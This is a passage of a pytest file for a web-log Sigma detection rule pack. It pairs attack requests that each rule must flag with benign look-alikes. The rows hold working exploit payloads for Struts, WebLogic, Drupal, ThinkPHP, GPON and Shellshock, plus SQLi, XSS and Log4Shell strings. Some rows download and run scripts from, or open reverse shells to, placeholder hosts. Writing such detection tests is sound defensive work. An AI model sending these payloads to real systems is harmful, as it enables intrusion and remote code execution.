"""threatscope's own Sigma rule pack for web logs (threatscope/detect/rules/web/): metadata,
compilation, and for every rule a request that must fire and a close look-alike that must not,
as access-log rows (method, URI, status, user agent, referer) and, where the signature lives in
headers or body, as whole-request rows. Requests are written from the vulnerability
descriptions."""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest
import yaml

from tests.detect.rows import BROWSER_UA, access_row, request_row
from threatscope.detect import evaluate, load_rules

ROOT = Path(__file__).resolve().parents[2]
PACK = ROOT / "threatscope" / "detect" / "rules"
RULE_FILES = sorted((PACK / "web").rglob("*.yml"))  # office/, windows/: test_office_rules.py, test_windows_pack.py
DOCUMENTED = {
    "families": {
        "sqli", "xss", "lfi", "rfi", "cmdi", "php-injection", "java-injection", "scanner", "rce",
        "recon",
    },
}


def _doc_campaign_keys() -> set[str]:
    """Campaign keys listed in docs/architecture.md ("Campaign keys: `iis-webdav` (...), ...")."""
    text = (ROOT / "docs" / "architecture.md").read_text(encoding="utf-8")
    para = text.split("Campaign keys:", 1)[1].split("\n\n", 1)[0]
    return set(re.findall(r"`([a-z0-9-]+)`", para))


def _meta() -> dict[str, dict]:
    return {p.stem: yaml.safe_load(p.read_text(encoding="utf-8")) for p in RULE_FILES}


META = _meta()
ID = {stem: str(d["id"]) for stem, d in META.items()}


@pytest.fixture(scope="module")
def ruleset():
    return load_rules(builtin=True)


# --- metadata -------------------------------------------------------------------------------

def test_pack_compiles_without_failures(ruleset):
    assert len(RULE_FILES) >= 25
    failed = [f for f in ruleset.failed if Path(f.path).resolve().is_relative_to(PACK)]
    assert failed == []
    loaded = {r.id for r in ruleset.rules}
    assert set(ID.values()) <= loaded


@pytest.mark.parametrize("stem", sorted(META))
def test_rule_metadata(stem):
    d = META[stem]
    uuid.UUID(str(d["id"]))
    assert d["title"] and d["description"] and d["author"] == "threatscope"
    assert d["status"] in {"test", "experimental"}
    assert d["level"] in {"informational", "low", "medium", "high", "critical"}
    assert d["logsource"] == {"category": "webserver"}
    assert d["references"] and d["falsepositives"]
    tags = d["tags"]
    assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in tags), "ATT&CK technique"
    assert any(t in {"attack.initial-access", "attack.reconnaissance"} for t in tags)
    campaigns = [t.split(".", 2)[2] for t in tags if t.startswith("threatscope.campaign.")]
    families = [t.split(".", 2)[2] for t in tags if t.startswith("threatscope.family.")]
    products = [t for t in tags if t.startswith("threatscope.product.")]
    cves = [t for t in tags if t.startswith("cve.")]
    assert all(re.fullmatch(r"cve\.\d{4}-\d{4,}", t) for t in cves)
    assert len(campaigns) + len(families) == 1, "exactly one campaign or family"
    if campaigns:
        assert campaigns[0] in _doc_campaign_keys()
        assert len(products) == 1
        # every campaign rule names its CVE, except the script console (a feature, not a bug)
        # and IIS short-name enumeration (never given a CVE)
        assert cves or stem in {"jenkins_script_console", "iis_shortname_scan"}
    else:
        assert families[0] in DOCUMENTED["families"]
    if cves:
        assert len(products) == 1


def test_ids_unique():
    assert len(set(ID.values())) == len(ID)


# --- rule cases ------------------------------------------------------------------------------
# (rule file stem, row, should fire). A row that should not fire must not fire *that* rule;
# the benign table further down must fire no rule at all.

A, R = access_row, request_row
WEBDAV_FILLER = "\u6f6f\u6f6f" * 40 + "\u4141\u4242" * 20

CASES: list[tuple[str, dict, bool]] = [
    # IIS WebDAV CVE-2017-7269
    ("iis_webdav_cve_2017_7269",
     R("PROPFIND", "/", {"Host": "victim", "If": f"<http://localhost/a{WEBDAV_FILLER}> (Not <locktoken:write1>)"}, ""), True),
    ("iis_webdav_cve_2017_7269",
     R("PROPFIND", "/dav/", {"If": "<http://localhost/b" + "A" * 300 + "> (Not <locktoken:x>)"}, ""), True),
    ("iis_webdav_cve_2017_7269", A("PROPFIND", "/", 207, ua=None), True),
    ("iis_webdav_cve_2017_7269", A("PROPFIND", "/", 500, ua="-"), True),
    ("iis_webdav_cve_2017_7269",
     R("PROPFIND", "/docs/", {"If": "(<opaquelocktoken:e71d4fae-5dec-22d6-fea5-00a0c91e6be4>)", "Depth": "1"}, ""), False),
    ("iis_webdav_cve_2017_7269", A("PROPFIND", "/", 207, ua="Microsoft-WebDAV-MiniRedir/10.0.19045"), False),
    ("iis_webdav_cve_2017_7269", A("PROPFIND", "/shared/reports/", 207, ua="Microsoft-WebDAV-MiniRedir/10.0"), False),
    ("iis_webdav_cve_2017_7269", A("GET", "/", 200), False),
    # IIS short names
    ("iis_shortname_scan", A("GET", "/*~1*/.aspx", 404), True),
    ("iis_shortname_scan", A("OPTIONS", "/a*~1*/a.aspx?aspxerrorpath=/", 404), True),
    ("iis_shortname_scan", A("GET", "/backup~1/.aspx", 404), True),
    ("iis_shortname_scan", A("GET", "/%2A~1%2A/.aspx", 400), True),
    ("iis_shortname_scan", A("GET", "/blog/2018/10/post-1.aspx?ref=~1", 200), False),
    ("iis_shortname_scan", A("GET", "/~john/index.html", 200), False),
    # Drupalgeddon 2
    ("drupal_cve_2018_7600",
     A("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", 200), True),
    ("drupal_cve_2018_7600",
     A("GET", "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D=id", 200), True),
    ("drupal_cve_2018_7600", A("POST", "/?q=file/ajax/name/%23value/form-abc123", 200), True),
    ("drupal_cve_2018_7600",
     R("POST", "/user/register?element_parents=timezone/timezone/%23value&ajax_form=1",
       {"Content-Type": "application/x-www-form-urlencoded"},
       "form_id=user_register_form&_drupal_ajax=1&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D=exec"), True),
    ("drupal_cve_2018_7600",
     R("POST", "/user/register", {"Content-Type": "application/x-www-form-urlencoded"},
       "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id"), True),
    ("drupal_cve_2018_7600",
     R("POST", "/user/register", {"Content-Type": "application/x-www-form-urlencoded"},
       "name=alice&mail=alice%40example.org&form_id=user_register_form&op=Create+new+account"), False),
    ("drupal_cve_2018_7600",
     A("POST", "/file/ajax/field_image/und/0/form-xyz?element_parents=field_image/widget/0&ajax_form=1", 200), False),
    ("drupal_cve_2018_7600", A("GET", "/user/password", 200), False),
    # Drupalgeddon 3
    ("drupal_cve_2018_7602",
     A("POST", "/?q=node/99/delete&destination=node?q[%2523post_render][]=passthru%26q[%2523type]=markup%26q[%2523markup]=id", 200), True),
    ("drupal_cve_2018_7602", A("POST", "/?q=file/ajax/actions/cancel/%23options/path/form-AbC", 200), True),
    ("drupal_cve_2018_7602",
     R("POST", "/?q=node/3/delete", {"Content-Type": "application/x-www-form-urlencoded"},
       "form_id=node_delete_confirm&_triggering_element_name=form_id&form_token=t0k"), True),
    ("drupal_cve_2018_7602", A("GET", "/?q=node/99/delete&destination=admin/content", 200), False),
    ("drupal_cve_2018_7602",
     R("POST", "/system/ajax", {"Content-Type": "application/x-www-form-urlencoded"},
       "form_id=article_node_form&_triggering_element_name=field_image_und_0_upload_button"), False),
    # WebLogic wls-wsat
    ("weblogic_cve_2017_10271", A("POST", "/wls-wsat/CoordinatorPortType", 500), True),
    ("weblogic_cve_2017_10271",
     R("POST", "/wls-wsat/RegistrationPortTypeRPC", {"Content-Type": "text/xml"},
       '<soapenv:Envelope><soapenv:Header><work:WorkContext><java version="1.8" class="java.beans.XMLDecoder">'
       '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0">'
       '<string>id</string></void></array><void method="start"/></object></java></work:WorkContext>'
       '</soapenv:Header><soapenv:Body/></soapenv:Envelope>'), True),
    # decision: a GET of the endpoint (WSDL / test page) proves nothing and does not fire
    ("weblogic_cve_2017_10271", A("GET", "/wls-wsat/CoordinatorPortType?wsdl", 200), False),
    ("weblogic_cve_2017_10271", A("POST", "/api/CoordinatorPortType", 200), False),
    # WebLogic _async
    ("weblogic_cve_2019_2725", A("POST", "/_async/AsyncResponseService", 202), True),
    ("weblogic_cve_2019_2725", A("POST", "/_async/AsyncResponseServiceHttps", 500), True),
    ("weblogic_cve_2019_2725",
     R("POST", "/_async/AsyncResponseServiceJms", {"Content-Type": "text/xml"},
       '<soapenv:Header><wsa:Action>x</wsa:Action><work:WorkContext><java><object class="java.lang.ProcessBuilder">'
       '<void method="start"/></object></java></work:WorkContext></soapenv:Header>'), True),
    ("weblogic_cve_2019_2725", A("GET", "/_async/AsyncResponseService", 200), False),
    ("weblogic_cve_2019_2725", A("POST", "/api/async/response", 200), False),
    # WebLogic console
    ("weblogic_cve_2020_14882", A("GET", "/console/css/%252e%252e%252fconsole.portal", 200), True),
    ("weblogic_cve_2020_14882", A("GET", "/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&_pageLabel=", 302), True),
    ("weblogic_cve_2020_14882", A("GET", "/console/css/..%2fconsole.portal", 200), True),
    ("weblogic_cve_2020_14882",
     A("GET", "/console/css/%25%32%65%25%32%65%25%32%66consolejndi.portal?test_handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", 200), True),
    ("weblogic_cve_2020_14882",
     R("POST", "/console/css/%252e%252e%252fconsole.portal", {"Content-Type": "application/x-www-form-urlencoded"},
       "_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession%28%22java.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%3B%22%29"), True),
    ("weblogic_cve_2020_14882", A("GET", "/console/console.portal?_nfpb=true&_pageLabel=HomePage1", 200), False),
    ("weblogic_cve_2020_14882", A("GET", "/console/login/LoginForm.jsp", 200), False),
    # GPON
    ("gpon_cve_2018_10561_10562", A("POST", "/GponForm/diag_Form?images/", 200), True),
    ("gpon_cve_2018_10561_10562", A("GET", "/menu.html?images/", 200), True),
    ("gpon_cve_2018_10561_10562",
     R("POST", "/GponForm/diag_Form?images/", {"Content-Type": "text/plain"},
       "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.9/m+-O+/tmp/m`;sh+/tmp/m&ipv=0"), True),
    ("gpon_cve_2018_10561_10562",
     R("POST", "/GponForm/diag_Form", {}, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%24%28id%29&ipv=0"), True),
    ("gpon_cve_2018_10561_10562",
     R("POST", "/GponForm/diag_Form", {}, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=8.8.8.8&ipv=0"), False),
    ("gpon_cve_2018_10561_10562", A("GET", "/images/logo.png", 200), False),
    ("gpon_cve_2018_10561_10562", A("GET", "/gallery.html?images=12", 200), False),
    # Struts S2-045
    ("struts_cve_2017_5638",
     R("GET", "/orders/index.action", {"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
       ".(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])))"
       ".(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"}, ""), True),
    ("struts_cve_2017_5638",
     R("POST", "/upload.action", {"Content-Type": "${#context['xwork.MethodAccessor.denyMethodExecution']=false}multipart/form-data"}, ""), True),
    ("struts_cve_2017_5638",
     R("POST", "/upload.action", {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"}, "x"), False),
    ("struts_cve_2017_5638", A("GET", "/orders/index.action", 200), False),
    # Struts S2-052
    ("struts_cve_2017_9805",
     R("POST", "/struts2-rest-showcase/orders/3", {"Content-Type": "application/xml"},
       "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="
       "\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class="
       "\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\">"
       "<cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
       "<iter class=\"javax.imageio.spi.FilterIterator\"><next class=\"java.lang.ProcessBuilder\"><command>"
       "<string>id</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler>"
       "</value></jdk.nashorn.internal.objects.NativeString></entry></map>"), True),
    ("struts_cve_2017_9805", A("POST", "/struts2-rest-showcase/orders/3/edit", 500), True),
    ("struts_cve_2017_9805",
     R("POST", "/api/orders.xml", {"Content-Type": "application/xml"},
       "<map><entry><key>client</key><value>Bob</value></entry></map>"), False),
    ("struts_cve_2017_9805", A("GET", "/struts2-rest-showcase/orders", 200), False),
    # Struts S2-057
    ("struts_cve_2018_11776",
     A("GET", "/struts2-showcase/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action", 302), True),
    ("struts_cve_2018_11776", A("GET", "/showcase/%24%7B233*233%7D/actionChain1.action", 302), True),
    ("struts_cve_2018_11776", A("GET", "/app/%2524%257B9*9%257D/index.action", 302), True),
    ("struts_cve_2018_11776", A("GET", "/struts2-showcase/actionChain1.action?name=${x}", 200), False),
    ("struts_cve_2018_11776", A("GET", "/struts2-showcase/config-browser/actionNames.action", 200), False),
    # ThinkPHP
    ("thinkphp_rce",
     A("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", 200), True),
    ("thinkphp_rce",
     A("GET", "/index.php?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id", 200), True),
    ("thinkphp_rce", A("GET", "/public/index.php?s=index/think%5Crequest/input&filter=system&data=id", 200), True),
    ("thinkphp_rce",
     R("POST", "/index.php?s=captcha", {"Content-Type": "application/x-www-form-urlencoded"},
       "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id"), True),
    ("thinkphp_rce", A("GET", "/index.php?s=captcha", 200), False),
    ("thinkphp_rce", A("GET", "/index.php?s=/index/news/detail&id=42", 200), False),
    # PHPUnit
    ("phpunit_cve_2017_9841", A("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200), True),
    ("phpunit_cve_2017_9841", A("GET", "/laravel/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php", 404), True),
    ("phpunit_cve_2017_9841",
     R("POST", "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {}, "<?php echo md5('phpunit'); ?>"), True),
    ("phpunit_cve_2017_9841", A("GET", "/vendor/phpunit/phpunit/README.md", 404), False),
    ("phpunit_cve_2017_9841", A("GET", "/docs/testing/phpunit-eval-stdin-explained.html", 200), False),
    # Shellshock
    ("bash_shellshock_cve_2014_6271", A("GET", "/cgi-bin/status", 200, ua="() { :; }; /bin/bash -c 'wget http://198.51.100.2/x'"), True),
    ("bash_shellshock_cve_2014_6271", A("GET", "/cgi-bin/test.cgi", 200, referer="() { _; } >_[$($())] { id; }"), True),
    ("bash_shellshock_cve_2014_6271", A("GET", "/cgi-bin/test-cgi?%28%29%20%7B%20%3A%3B%20%7D%3B%20echo%3B%20id", 200), True),
    ("bash_shellshock_cve_2014_6271",
     R("GET", "/cgi-bin/admin.cgi", {"User-Agent": "Mozilla/5.0", "Cookie": "() { :;}; echo; /usr/bin/id"}, ""), True),
    ("bash_shellshock_cve_2014_6271", A("GET", "/search?q=function+f()+{+return+1;+}", 200), False),
    ("bash_shellshock_cve_2014_6271",
     R("POST", "/api/snippets", {"Content-Type": "application/json"}, '{"code": "f() { echo hi; }"}'), False),
    # Jenkins
    ("jenkins_script_console", A("POST", "/scriptText", 200), True),
    ("jenkins_script_console", A("GET", "/jenkins/script", 403), True),
    ("jenkins_script_console", A("POST", "/computer/(master)/scriptText", 200), True),
    ("jenkins_script_console", A("GET", "/script/main.js", 200), False),
    ("jenkins_script_console", A("GET", "/scripts/jquery.min.js", 200), False),
    ("jenkins_cve_2018_1000861",
     A("GET", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=%40GrabResolver%28name%3D%27x%27%29", 200), True),
    ("jenkins_cve_2018_1000861",
     A("POST", "/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=class+x{}", 200), True),
    ("jenkins_cve_2018_1000861", A("GET", "/securityRealm/commenceLogin?from=%2F", 302), False),
    ("jenkins_cve_2018_1000861", A("GET", "/job/build-main/descriptorByName/hudson.tasks.Shell/help", 200), False),
    # Nimda / Code Red II traversal
    ("web_iis_nimda_traversal", A("GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", 404), True),
    ("web_iis_nimda_traversal", A("GET", "/_vti_bin/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir", 404), True),
    ("web_iis_nimda_traversal", A("GET", "/scripts/root.exe?/c+dir", 404), True),
    ("web_iis_nimda_traversal", A("GET", "/msadc/..%255c../..%c1%1c../winnt/system32/cmd.exe?/c+dir+c:", 404), True),
    ("web_iis_nimda_traversal", A("GET", "/search?q=what+is+cmd.exe+%2Fc+dir", 200), False),
    ("web_iis_nimda_traversal", A("GET", "/downloads/setup.exe", 200), False),
    # Code Red
    ("web_iis_codered_ida", A("GET", "/default.ida?" + "N" * 224 + "%u9090%u6858%ucbd3%u7801%u9090", 404), True),
    ("web_iis_codered_ida", A("GET", "/default.ida?" + "X" * 224 + "%u9090%u6858", 404), True),
    ("web_iis_codered_ida", A("GET", "/query.idq?CiRestriction=report&CiMaxRecordsPerPage=10", 200), False),
    # scanners
    ("web_scanner_user_agent", A("GET", "/", 200, ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/5.0 zgrab/0.x"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), True),
    ("web_scanner_user_agent", A("GET", "/wp-login.php", 200, ua="WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"), True),
    ("web_scanner_user_agent", A("GET", "/admin/", 404, ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"), True),
    ("web_scanner_user_agent", A("GET", "/admin/", 404, ua="gobuster/3.6"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)"), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) (Nessus)"), True),
    ("web_scanner_user_agent", R("GET", "/", {"User-Agent": BROWSER_UA, "Acunetix-Product": "WVS/14.0 (Acunetix Web Vulnerability Scanner)"}, ""), True),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), False),
    ("web_scanner_user_agent", A("GET", "/", 200, ua="urlgrabber/3.10 yum/3.4.3"), False),
    ("web_scanner_user_agent", A("GET", "/search?q=nikto+scanner+review", 200), False),
    # sensitive files
    ("web_sensitive_file_probe", A("GET", "/.git/config", 404), True),
    ("web_sensitive_file_probe", A("GET", "/.env", 404), True),
    ("web_sensitive_file_probe", A("GET", "/wp-config.php.bak", 404), True),
    ("web_sensitive_file_probe", A("GET", "/backup.tar.gz", 404), True),
    ("web_sensitive_file_probe", A("GET", "/.aws/credentials", 404), True),
    ("web_sensitive_file_probe", A("GET", "/downloads/product-manual-2018.zip", 200), False),
    ("web_sensitive_file_probe", A("GET", "/blog/git-config-tips.html", 200), False),
    ("web_sensitive_file_probe", A("GET", "/environment/policy.html", 200), False),
    # SQL injection
    ("web_sqli", A("GET", "/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,concat(user,0x3a,password),NULL%20FROM%20users--%20-", 200), True),
    ("web_sqli", A("GET", "/login.php?user=admin%27+or+%271%27%3D%271&pass=x", 200), True),
    ("web_sqli", A("GET", "/news.php?id=5+AND+1=1", 200), True),
    ("web_sqli", A("GET", "/product?id=7%20AND%20SLEEP(5)", 200), True),
    ("web_sqli", A("GET", "/list?cat=1;WAITFOR%20DELAY%20'0:0:5'--", 200), True),
    ("web_sqli", A("GET", "/x?id=1+and+extractvalue(1,concat(0x7e,(select+@@version)))", 500), True),
    ("web_sqli", A("GET", "/x?q=1%20from%20information_schema.tables", 200), True),
    ("web_sqli", R("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded"}, "username=admin%27%20or%20%271%27%3D%271&password=x"), True),
    ("web_sqli", R("GET", "/account", {"Cookie": "uid=1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"}, ""), True),
    ("web_sqli", A("GET", "/search?q=select+a+product+from+the+catalogue", 200), False),
    ("web_sqli", A("GET", "/shop/list?category=shoes&order=asc&sort=price", 200), False),
    ("web_sqli", A("GET", "/search?q=O%27Reilly+and+Associates", 200), False),
    ("web_sqli", A("GET", "/search?q=rock+%27n%27+roll+or+jazz", 200), False),
    # XSS
    ("web_xss", A("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200), True),
    ("web_xss", A("GET", "/p?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 200), True),
    ("web_xss", A("GET", "/redirect?to=javascript:alert(1)", 302), True),
    ("web_xss", A("GET", "/q?x=%3Csvg/onload=confirm`1`%3E", 200), True),
    ("web_xss", R("POST", "/comment", {"Content-Type": "application/x-www-form-urlencoded"}, "text=%3Ciframe%20src%3D%22javascript%3Aalert%281%29%22%3E"), True),
    ("web_xss", A("GET", "/", 200, referer="http://x/<script>alert(1)</script>"), True),
    ("web_xss", A("GET", "/books?q=javascript:+the+good+parts", 200), False),
    ("web_xss", A("GET", "/news/2018/05/alert-level-raised-in-region", 200), False),
    ("web_xss", R("POST", "/comment", {"Content-Type": "application/x-www-form-urlencoded"}, "text=Great+article%2C+see+%3Ca+href%3D%22https%3A%2F%2Fexample.org%22%3Ethis%3C%2Fa%3E"), False),
    # LFI / traversal
    ("web_lfi_path_traversal", A("GET", "/download.php?file=../../../../etc/passwd", 200), True),
    ("web_lfi_path_traversal", A("GET", "/index.php?page=....//....//....//etc/passwd", 200), True),
    ("web_lfi_path_traversal", A("GET", "/static/%252e%252e/%252e%252e/%252e%252e/windows/win.ini", 400), True),
    ("web_lfi_path_traversal", A("GET", "/view?doc=php://filter/convert.base64-encode/resource=index.php", 200), True),
    ("web_lfi_path_traversal", A("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400), True),
    ("web_lfi_path_traversal", A("GET", "/app/WEB-INF/web.xml", 404), True),
    ("web_lfi_path_traversal", R("POST", "/render", {"Content-Type": "application/x-www-form-urlencoded"}, "tpl=..%2F..%2F..%2Fproc%2Fself%2Fenviron"), True),
    # the worm request belongs to the Nimda rule only
    ("web_lfi_path_traversal", A("GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", 404), False),
    ("web_lfi_path_traversal", A("GET", "/news/etc/passwords-leaked-what-to-do", 200), False),
    ("web_lfi_path_traversal", A("GET", "/get/foo../1234", 200), False),
    ("web_lfi_path_traversal", A("GET", "/releases/v1.2...v1.3", 200), False),
    # RFI
    ("web_rfi", A("GET", "/index.php?page=http://198.51.100.7/shell.txt?", 200), True),
    ("web_rfi", A("GET", "/components/com_x/x.php?mosConfig_absolute_path=http://evil.example/c99.txt", 200), True),
    ("web_rfi", A("GET", "/x.php?file=ftp://203.0.113.9/r57.txt%00", 200), True),
    ("web_rfi", A("GET", "/proxy?u=gopher://127.0.0.1:6379/_INFO", 200), True),
    ("web_rfi", A("GET", "/login?next=https://www.example.com/account", 302), False),
    ("web_rfi", A("GET", "/share?url=https%3A%2F%2Fnews.example.org%2Fstory%3Fid%3D5", 200), False),
    # command injection
    ("web_cmd_injection", A("GET", "/ping.php?host=127.0.0.1;cat%20/etc/passwd", 200), True),
    ("web_cmd_injection", A("GET", "/cgi-bin/x?ip=1.1.1.1|id", 200), True),
    ("web_cmd_injection", A("GET", "/x?a=%60whoami%60", 200), True),
    ("web_cmd_injection", A("GET", "/x?cmd=cd+/tmp;wget+http://198.51.100.3/bot.sh;chmod+777+bot.sh;./bot.sh", 200), True),
    ("web_cmd_injection", A("GET", "/x?h=$(nslookup%20x.oast.example)", 200), True),
    ("web_cmd_injection", R("POST", "/api/diag", {"Content-Type": "application/x-www-form-urlencoded"}, "target=8.8.8.8%3Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.4%2F4444%200%3E%261"), True),
    ("web_cmd_injection", A("GET", "/x?c=powershell.exe+-nop+-w+hidden+-enc+SQBFAFgA", 200), True),
    ("web_cmd_injection", A("GET", "/search?q=cats%20%26%20dogs%20%7C%20pets", 200), False),
    ("web_cmd_injection", A("GET", "/page;jsessionid=0A1B2C3D", 200), False),
    ("web_cmd_injection", A("GET", "/", 200, ua="Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"), False),
    ("web_cmd_injection", A("GET", "/files/tool.tar.gz", 200, ua="Wget/1.14 (linux-gnu)"), False),
    # PHP injection
    ("web_php_injection", A("GET", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 200), True),
    ("web_php_injection", A("GET", "/x.php?c=system(%27id%27);", 200), True),
    ("web_php_injection", A("GET", "/x.php?code=eval(base64_decode($_POST[z]))", 200), True),
    ("web_php_injection", R("POST", "/upload.php", {"Content-Type": "application/x-www-form-urlencoded"}, "data=%3C%3Fphp%20phpinfo%28%29%3B%20%3F%3E"), True),
    ("web_php_injection", R("POST", "/up", {"X-Filename": "shell.php"}, "GIF89a"), True),
    ("web_php_injection", A("GET", "/x?d=O:8:%22stdClass%22:1:{s:1:%22a%22;s:1:%22b%22;}", 200), True),
    ("web_php_injection", A("GET", "/docs/php/system-requirements", 200), False),
    ("web_php_injection", A("GET", "/blog?title=Operating+system+(OS)+basics", 200), False),
    # Java / OGNL / JNDI
    ("web_java_injection", A("GET", "/", 200, ua="${jndi:ldap://198.51.100.5:1389/a}"), True),
    ("web_java_injection", R("GET", "/", {"X-Api-Version": "${${lower:j}ndi:${lower:r}mi://x.example/a}"}, ""), True),
    ("web_java_injection", A("GET", "/login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()}", 200), True),
    ("web_java_injection", R("POST", "/api", {"Content-Type": "application/x-www-form-urlencoded"}, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), True),
    ("web_java_injection", R("POST", "/invoker/readonly", {"Content-Type": "application/octet-stream"}, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"), True),
    ("web_java_injection", R("POST", "/api", {"Cookie": "rememberMe=" + "x" * 8 + "aW52b2tlcnRyYW5zZm9ybWVy"}, ""), True),
    ("web_java_injection", A("GET", "/search?q=java+runtime+environment+download", 200), False),
    ("web_java_injection", A("GET", "/api/items?filter=%7B%22price%22%3A%7B%22gt%22%3A10%7D%7D", 200), False),
]

# Benign traffic that must not fire any rule in the pack.
BENIGN: list[dict] = [
    A("GET", "/", 200),
    A("GET", "/news/2018/05/14/election-results-live?utm_source=twitter&utm_medium=social", 200),
    A("GET", "/api/v2/search?q=%7B%22filter%22%3A%7B%22status%22%3A%5B%22open%22%2C%22closed%22%5D%7D%2C%22limit%22%3A50%7D", 200),
    A("GET", "/search?q=select+a+product", 200),
    A("GET", "/shop/products?category=shoes&order=asc&page=2&size=42", 200),
    A("GET", "/static/js/app.3f2a1b.min.js", 200, referer="https://www.example.com/"),
    A("GET", "/images/banner.png", 304, ua="Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"),
    A("GET", "/feed.xml", 200, ua="Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
    A("GET", "/", 200, ua="Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3"),
    A("POST", "/wp-admin/admin-ajax.php", 200),
    A("GET", "/calendar?from=2018-01-01&to=2018-03-31&tz=Europe%2FBerlin", 200),
    A("GET", "/articles/how-to-use-union-types-in-typescript", 200),
    A("GET", "/search?q=cmd.exe+not+found+windows+10", 200),
    A("GET", "/docs?topic=shell+scripting+for+beginners", 200),
    A("GET", "/wiki/Special:Search?search=script+writing&go=Go", 200),
    R("POST", "/api/orders", {"Content-Type": "application/json", "User-Agent": BROWSER_UA, "Accept": "application/json, text/plain, */*", "Cookie": "session=eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.abc; theme=dark"},
      '{"items": [{"sku": "A-100", "qty": 2}], "note": "leave at the door; ring twice", "coupon": null}'),
    R("POST", "/contact", {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": BROWSER_UA},
      "name=Jane+O%27Connor&email=jane%40example.org&message=Hello%2C+I+would+like+to+select+a+plan+for+my+team+%26+order+it+today."),
